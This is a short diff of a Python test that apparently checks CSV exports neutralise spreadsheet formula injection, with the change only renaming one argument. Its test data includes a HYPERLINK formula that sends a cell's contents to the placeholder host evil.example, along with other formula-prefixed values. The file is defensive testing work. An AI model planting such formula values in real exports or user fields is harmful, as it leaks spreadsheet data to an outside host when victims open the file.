@@ -252,7 +252,7 @@ def test_names_that_calculate_reach_no_spreadsheet(
     evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     record(
         draft_for_user(
-            users["dana"], "get", name=evil, resource="+1", subject="@SUM(1)", reason="-2+3", identity="\t=1"
+            users["dana"], "get", name=evil, resource="+1", target="@SUM(1)", reason="-2+3", identity="\t=1"
         )
     )
     (row,) = fetch_csv(client_for("aude"), "verb=get&kind=&name=" + evil.replace("&", "%26"))
